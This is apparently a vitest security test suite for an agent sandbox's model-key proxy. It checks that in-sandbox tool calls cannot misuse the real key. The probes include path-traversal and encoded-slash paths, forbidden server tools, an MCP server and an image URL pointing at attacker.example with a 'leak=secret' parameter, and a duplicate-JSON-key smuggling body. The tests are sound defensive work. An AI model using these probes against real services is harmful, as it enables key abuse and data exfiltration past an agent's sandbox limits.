import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runScript, SANDBOX_PRELUDE, outputOf } from '../support/in-sandbox.js';
import { ManualLauncher } from '../support/manual-launcher.js';
import { call, prompt, startService, useServiceWithFake, type RunningService } from '../support/service.js';

/**
 * The model proxy holds the real key. From inside the sandbox, with the turn token, a tool tries
 * every way to use that key for something other than the agent's own Messages calls.
 */
describe("a tool in the sandbox, after the model key's reach", () => {
  const running = useServiceWithFake({ CLAUDERUN_MAX_OUTPUT_TOKENS: '16000' });

  const message = { role: 'user', content: 'hi' };
  const allowed = { model: 'claude-opus-5-5', max_tokens: 100, messages: [message] };
  const probes: Array<[string, string, unknown, Record<string, string>?]> = [
    ['batches', '/internal/model/v1/messages/batches', { requests: [{ custom_id: 'a', params: allowed }] }],
    ['files', '/internal/model/v1/files', {}],
    ['models', '/internal/model/v1/models', {}],
    ['dot-dot', '/internal/model/v1/../../v1/files', {}],
    ['encoded dot-dot', '/internal/model/v1/%2e%2e/v1/files', {}],
    ['encoded slash', '/internal/model/v1/messages%2fbatches', {}],
    ['trailing segment', '/internal/model/v1/messages/batches/x/../..', allowed],
    ['web search', '/internal/model/v1/messages', { ...allowed, tools: [{ type: 'web_search_20250305', name: 'web_search' }] }],
    ['web fetch', '/internal/model/v1/messages', { ...allowed, tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }],
    ['code execution', '/internal/model/v1/messages', { ...allowed, tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }],
    ['mcp servers', '/internal/model/v1/messages', { ...allowed, mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }] }],
    [
      'url image',
      '/internal/model/v1/messages',
      {
        ...allowed,
        messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/?leak=secret' } }] }],
      },
    ],
    [
      'url document in a tool result',
      '/internal/model/v1/messages',
      {
        ...allowed,
        messages: [
          {
            role: 'user',
            content: [
              { type: 'tool_result', tool_use_id: 't', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/' } }] },
            ],
          },
        ],
      },
    ],
    [
      'uploaded file',
      '/internal/model/v1/messages',
      { ...allowed, messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'file_1' } }] }] },
    ],
    ['other model', '/internal/model/v1/messages', { ...allowed, model: 'claude-expensive-9' }],
    ['huge output', '/internal/model/v1/messages', { ...allowed, max_tokens: 1000000 }],
    ['unknown field', '/internal/model/v1/messages', { ...allowed, container: 'container_1' }],
    ['count tokens of another model', '/internal/model/v1/messages/count_tokens', { model: 'claude-expensive-9', messages: [message] }],
  ];

  it("refuses every call but the agent's own, before it reaches the upstream", async () => {
    const before = running.fake.requests.length;
    const script = `${SANDBOX_PRELUDE}
const probes = ${JSON.stringify(probes)};
(async () => {
  for (const [name, path, body] of probes) {
    const answer = await call('POST', path, { headers: { 'x-api-key': token, 'anthropic-version': '2023-06-01' }, body });
    console.log('PROBE', JSON.stringify(name), answer.status, answer.text.slice(0, 300).replace(/\\s+/g, ' '));
  }
})();`;
    const output = outputOf(await runScript(running.service, script));
    for (const [name] of probes)
      expect(output, name).toMatch(new RegExp(`PROBE ${JSON.stringify(name).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} (400|404) `));
    expect(output).toContain('not_found_error');
    expect(output).toContain('invalid_request_error');
    // The only upstream requests of that turn are the agent's own two Messages calls.
    const reached = running.fake.requests.slice(before);
    expect(reached.map((r) => r.url)).toEqual(['/v1/messages?beta=true', '/v1/messages?beta=true']);
    for (const request of reached) {
      // (The probes' answers travel in the second call as the tool's output; what matters is what was asked.)
      const body = JSON.parse(request.body) as { model: string; mcp_servers?: unknown; tools: Array<{ type?: string }> };
      expect(body.model).toBe('claude-opus-5-5');
      expect(body.mcp_servers).toBeUndefined();
      expect(body.tools.every((tool) => tool.type === undefined)).toBe(true);
    }
  });

  it('forwards the body it checked: a duplicate key cannot mean one thing here and another upstream', async () => {
    const before = running.fake.requests.length;
    const body = '{"model":"claude-expensive-9","model":"claude-opus-5-5","max_tokens":10,"messages":[{"role":"user","content":"duplicate"}]}';
    const script = `${SANDBOX_PRELUDE}
(async () => {
  const answer = await call('POST', '/internal/model/v1/messages', { headers: { 'x-api-key': token, 'anthropic-version': '2023-06-01' }, body: ${JSON.stringify(body)} });
  console.log('DUPLICATE', answer.status);
})();`;
    expect(outputOf(await runScript(running.service, script))).toContain('DUPLICATE 200');
    const forwarded = running.fake.requests.slice(before).find((r) => r.body.includes('"duplicate"'));
    expect(forwarded?.body).toBe('{"model":"claude-opus-5-5","messages":[{"role":"user","content":"duplicate"}],"max_tokens":10}');
  });

  it('passes on only the beta features the agent needs, and the agent asks within the output cap', async () => {
    const before = running.fake.requests.length;
    const script = `${SANDBOX_PRELUDE}
(async () => {
  const answer = await call('POST', '/internal/model/v1/messages', {
    headers: { 'x-api-key': token, 'anthropic-version': '2023-06-01', 'anthropic-beta': 'mcp-client-2025-04-04,files-api-2025-04-14,claude-code-20250219,code-execution-2025-08-25' },
    body: { model: 'claude-haiku-5-5', max_tokens: 50, messages: [{ role: 'user', content: 'side call' }] },
  });
  console.log('ALLOWED', answer.status);
})();`;
    const output = outputOf(await runScript(running.service, script));
    expect(output).toContain('ALLOWED 200');
    const reached = running.fake.requests.slice(before);
    const side = reached.find((r) => r.body.includes('side call'));
    expect(side?.betas).toBe('claude-code-20250219');
    for (const request of reached) {
      for (const beta of (request.betas ?? '').split(',').filter(Boolean))
        expect([
          'claude-code-20250219',
          'interleaved-thinking-2025-05-14',
          'context-management-2025-06-27',
          'per-turn-control-2026-07-01',
          'mid-conversation-tool-changes-2026-07-01',
          'thinking-token-count-2026-05-13',
          'advanced-tool-use-2025-11-20',
          'effort-2025-11-24',
        ]).toContain(beta);
    }
    const agentCalls = running.fake.calls.slice(-3).filter((call) => Array.isArray(call.body.tools));
    expect(agentCalls).toHaveLength(2);
    for (const call of agentCalls) {
      expect(call.body.model).toBe('claude-opus-5-5');
      expect(call.body.max_tokens).toBeLessThanOrEqual(16000);
    }
  });

  it('meters a streamed answer the sandbox hangs up on before its usage arrives', async () => {
    // 40,000 characters: 10,000 output tokens, reported by the last event, seconds after the first.
    const script = `${SANDBOX_PRELUDE}
(async () => {
  await new Promise((resolve) => {
    const req = http.request({ host: '127.0.0.1', port: 8080, method: 'POST', path: '/internal/model/v1/messages', headers: { 'content-type': 'application/json', 'x-api-key': token } }, (res) => {
      res.once('data', () => { console.log('FIRST BYTES', res.statusCode); req.destroy(); resolve(); });
    });
    req.end(JSON.stringify({ model: 'claude-opus-5-5', max_tokens: 16000, stream: true, messages: [{ role: 'user', content: 'slow: 40000' }] }));
  });
})();`;
    const answer = await runScript(running.service, script, { userId: 'hangs-up' });
    expect(outputOf(answer)).toContain('FIRST BYTES 200');
    // The proxy reads the answer to its end and meters it, though nobody listens any more.
    const turnPath = `/api/conversations/${String(answer.body.conversationId)}/turns/${String(answer.body.turnId)}`;
    const outputTokens = async () =>
      ((await call(running.service, 'GET', turnPath, { userId: 'hangs-up' })).body.usage as { outputTokens: number }).outputTokens;
    await expect.poll(outputTokens, { timeout: 10_000 }).toBeGreaterThanOrEqual(10_000);
  });

  it('meters a whole answer too large to read for its usage at the most it can have cost', async () => {
    // The fake echoes the prompt: a 1.1 MB answer whose usage, at its end, is past what is read.
    const script = `${SANDBOX_PRELUDE}
(async () => {
  const answer = await call('POST', '/internal/model/v1/messages', { headers: { 'x-api-key': token }, body: { model: 'claude-opus-5-5', max_tokens: 16000, messages: [{ role: 'user', content: 'y'.repeat(1100000) }] } });
  console.log('WHOLE', answer.status, answer.text.length);
})();`;
    const answer = await runScript(running.service, script, { userId: 'large-answer' });
    expect(outputOf(answer)).toMatch(/WHOLE 200 1[01]\d{5}/);
    const turnPath = `/api/conversations/${String(answer.body.conversationId)}/turns/${String(answer.body.turnId)}`;
    const usage = async () =>
      (await call(running.service, 'GET', turnPath, { userId: 'large-answer' })).body.usage as { inputTokens: number; outputTokens: number };
    await expect.poll(async () => (await usage()).outputTokens).toBeGreaterThanOrEqual(16_000);
    expect((await usage()).inputTokens).toBeGreaterThanOrEqual(275_000);
  });

  it('refuses a body over 32 MB without reading it all', async () => {
    const script = `${SANDBOX_PRELUDE}
(async () => {
  const huge = await call('POST', '/internal/model/v1/messages', { headers: { 'x-api-key': token }, body: 'x'.repeat(33 * 1024 * 1024) });
  console.log('HUGE', huge.status);
})();`;
    // The API stops reading past the limit: the client sees the refusal or the connection cut.
    expect(outputOf(await runScript(running.service, script))).toMatch(/HUGE (413|0)/);
  });
});

describe('a turn holding model calls open', () => {
  const launcher = new ManualLauncher();
  let service: RunningService;
  beforeAll(async () => {
    service = await startService({ CLAUDERUN_MAX_MODEL_CALLS_IN_FLIGHT: '8', CLAUDERUN_MODEL_REQUEST_BYTES_PER_MINUTE: '300000' }, undefined, {
      launcher,
    });
  });
  afterAll(async () => service?.stop({ removeData: true }));

  it('holds at most 8 calls in flight, counting bodies still arriving; the next gets an Anthropic 429', async () => {
    await prompt(service, 'holder', { message: 'hi' }, { prefer: 'respond-async' });
    const { token } = launcher.last().spec;
    const port = Number(new URL(service.internalUrl).port);
    const held = Array.from({ length: 8 }, () => {
      const socket = net.connect(port, '127.0.0.1');
      socket.write(
        `POST /internal/model/v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: ${token}\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n{"model":`,
      );
      return socket;
    });
    const ninth = async () =>
      call({ url: service.internalUrl }, 'POST', '/internal/model/v1/messages', {
        headers: { 'x-api-key': token },
        body: { model: 'claude-opus-5-5', max_tokens: 5, messages: [{ role: 'user', content: 'ninth' }] },
      });
    // The held requests reach the proxy in their own time: the ninth is refused once they have.
    await expect.poll(async () => (await ninth()).status).toBe(429);
    const refused = await ninth();
    expect(refused.body).toMatchObject({
      type: 'error',
      error: { type: 'rate_limit_error', message: expect.stringMatching(/8 model calls in flight/) },
    });
    for (const socket of held) socket.destroy();
    await expect.poll(async () => (await ninth()).status).toBe(200);
  });

  it("parses at most the user's allowance of request bytes a minute; past it, 429 before any parsing", async () => {
    await prompt(service, 'bulk', { message: 'hi' }, { prefer: 'respond-async' });
    const { token } = launcher.last().spec;
    const big = { model: 'claude-opus-5-5', max_tokens: 5, messages: [{ role: 'user', content: 'x'.repeat(120_000) }] };
    const send = () => call({ url: service.internalUrl }, 'POST', '/internal/model/v1/messages', { headers: { 'x-api-key': token }, body: big });
    expect((await send()).status).toBe(200);
    expect((await send()).status).toBe(200);
    const third = await send();
    // Unless the minute turned between the calls, the third goes over 300,000 bytes.
    if (third.status !== 200) {
      expect(third.status).toBe(429);
      expect(third.body).toMatchObject({
        error: { type: 'rate_limit_error', message: expect.stringMatching(/bytes of model requests this minute/) },
      });
    } else {
      expect((await send()).status).toBe(200);
    }
  });
});
